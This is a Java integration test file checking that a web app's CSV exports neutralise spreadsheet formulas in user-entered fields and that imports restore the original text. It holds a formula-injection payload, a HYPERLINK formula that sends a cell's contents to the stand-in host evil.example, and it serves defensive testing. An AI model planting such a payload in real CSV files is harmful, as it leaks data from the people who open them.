package org.twinport.web;

import java.net.URI;
import java.net.http.HttpRequest;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

import org.junit.jupiter.api.Test;

import org.twinport.identity.Role;
import org.twinport.support.ApiClient.Response;
import org.twinport.support.IntegrationTest;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Text that people type (a partner office's notes, a merchant's product titles, an import
 * file's handles) never reaches a spreadsheet as a formula through a CSV Twinport writes,
 * and the CSV imports take the neutralising apostrophe back off.
 */
class CsvFormulaInjectionTest extends IntegrationTest {

	private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Open agreement\")";

	private static final JsonMapper JSON = JsonMapper.builder().build();

	@Test
	void aPartnerOfficesFormulaIsTextInThePublicPartnershipsCsvAndImportsBackAsTyped() {
		long coventry = jdbc
			.sql("select s.id from network.partnership s join network.place p on p.id = s.partner_place_id "
					+ "where p.code = 'gb-coventry'")
			.query(Long.class)
			.single();
		String path = "/api/v1/network/partnerships/" + coventry;
		JsonNode before = api().get(path).json();
		String office = tokenFor(Role.PARTNER_OFFICE);
		try {
			Response changed = api().put(path, draft(List.of("@SUM(1)", "trade"), HYPERLINK), office);
			assertThat(changed.status()).as(changed.toString()).isEqualTo(200);

			Response csv = api().get("/api/v1/network/partnerships.csv");
			assertThat(csv.status()).isEqualTo(200);
			List<String> row = rows(csv.body()).stream()
				.filter(cells -> cells.get(1).equals("gb-coventry"))
				.findFirst()
				.orElseThrow();
			assertThat(row.get(5)).isEqualTo("'@SUM(1);trade");
			assertThat(row.get(6)).isEqualTo("'" + HYPERLINK);
			assertNoCellStartsAFormula(csv.body());

			Response imported = postCsv("/api/v1/network/partnerships.csv", csv.body(), tokenFor(Role.ADMIN));
			assertThat(imported.status()).as(imported.toString()).isEqualTo(200);
			JsonNode after = api().get(path).json();
			assertThat(after.get("notes").asString()).isEqualTo(HYPERLINK);
			assertThat(after.get("fieldsOfCooperation").get(0).asString()).isEqualTo("@SUM(1)");
		}
		finally {
			List<String> fields = new ArrayList<>();
			before.get("fieldsOfCooperation").forEach(field -> fields.add(field.asString()));
			JsonNode notes = before.path("notes");
			api().put(path, draft(fields, notes.isString() ? notes.asString() : null), office);
		}
	}

	@Test
	void theImportErrorsCsvNeutralisesTheHandlesAndReasonsItRepeats() {
		String merchant = tokenFor(Role.MERCHANT);
		JsonNode job = runImport(merchant,
				"""
						Handle,Title,Body (HTML),Vendor,Option1 Name,Option1 Value,Variant SKU,Variant Grams,Variant Price,Status,HS Code,Origin Country,Markets
						@SUM(1),Formula handle (csv test),,Test,,,CSV-INJ-1,100,10.00,active,12,CN,FI
						""");
		assertThat(job.get("rowsRejected").asInt()).isEqualTo(1);
		Response errors = api().get("/api/v1/catalog/imports/" + job.get("id").asString() + "/errors", merchant);
		assertThat(errors.contentType()).startsWith("text/csv");
		assertThat(rows(errors.body()).get(1)).startsWith("2", "'@SUM(1)");
		assertNoCellStartsAFormula(errors.body());
	}

	@Test
	void theCatalogExportNeutralisesTitlesAndImportsBackAsTyped() {
		String merchant = tokenFor(Role.MERCHANT);
		String title = "@SUM(1)+" + HYPERLINK;
		String description = "-2+3 tea, (csv test)";
		JsonNode job = runImport(merchant,
				"""
						Handle,Title,Body (HTML),Vendor,Option1 Name,Option1 Value,Variant SKU,Variant Grams,Variant Price,Status,HS Code,Origin Country,Markets
						csv-inj-title,"%s","%s",Test,,,CSV-INJ-T-1,100,10.00,active,090230,CN,FI
						"""
					.formatted(title.replace("\"", "\"\""), description));
		assertThat(job.get("productsSaved").asInt()).as(job.toString()).isEqualTo(1);

		String export = api().get("/api/v1/catalog/export", merchant).body();
		assertNoCellStartsAFormula(export);
		List<List<String>> rows = rows(export);
		List<String> exported = rows.stream()
			.filter(cells -> cells.get(0).equals("csv-inj-title"))
			.findFirst()
			.orElseThrow();
		assertThat(exported.get(1)).isEqualTo("'" + title);
		assertThat(exported.get(2)).isEqualTo("'" + description);

		String header = export.substring(0, export.indexOf("\r\n") + 2);
		String line = export.lines().filter(l -> l.startsWith("csv-inj-title,")).findFirst().orElseThrow();
		assertThat(runImport(merchant, header + line + "\r\n").get("productsSaved").asInt()).isEqualTo(1);
		assertThat(jdbc
			.sql("select t.title || '|' || t.description from catalog.product_text t "
					+ "join catalog.product p on p.id = t.product_id where p.sku = 'csv-inj-title'")
			.query(String.class)
			.list()).containsExactly(title + "|" + description);
	}

	private static String draft(List<String> fields, String notes) {
		ObjectNode draft = JSON.createObjectNode();
		fields.forEach(draft.putArray("fieldsOfCooperation")::add);
		draft.put("notes", notes);
		return draft.toString();
	}

	private JsonNode runImport(String token, String csv) {
		Response started = api().post("/api/v1/catalog/imports", csv, token);
		assertThat(started.status()).as(started.toString()).isEqualTo(202);
		String id = started.json().get("id").asString();
		await().atMost(Duration.ofSeconds(20))
			.until(() -> !api().get("/api/v1/catalog/imports/" + id, token)
				.json()
				.get("state")
				.asString()
				.equals("RUNNING"));
		return api().get("/api/v1/catalog/imports/" + id, token).json();
	}

	private Response postCsv(String path, String csv, String token) {
		return api().send(HttpRequest.newBuilder(URI.create(baseUrl() + path))
			.header("Content-Type", "text/csv")
			.header("Authorization", "Bearer " + token)
			.POST(HttpRequest.BodyPublishers.ofString(csv))
			.build());
	}

	/** What a spreadsheet would run: a cell starting with =, +, -, @, tab or CR. */
	private static void assertNoCellStartsAFormula(String csv) {
		for (List<String> row : rows(csv)) {
			for (String cell : row) {
				assertThat(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0).as(cell).isTrue();
			}
		}
	}

	/** RFC 4180, read the way a spreadsheet reads it. */
	private static List<List<String>> rows(String csv) {
		List<List<String>> rows = new ArrayList<>();
		List<String> row = new ArrayList<>();
		StringBuilder cell = new StringBuilder();
		boolean quoted = false;
		for (int i = 0; i < csv.length(); i++) {
			char c = csv.charAt(i);
			if (quoted) {
				if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
					cell.append('"');
					i++;
				}
				else if (c == '"') {
					quoted = false;
				}
				else {
					cell.append(c);
				}
			}
			else if (c == '"') {
				quoted = true;
			}
			else if (c == ',') {
				row.add(cell.toString());
				cell.setLength(0);
			}
			else if (c == '\n') {
				row.add(cell.toString());
				cell.setLength(0);
				rows.add(row);
				row = new ArrayList<>();
			}
			else if (c != '\r') {
				cell.append(c);
			}
		}
		return rows;
	}

}
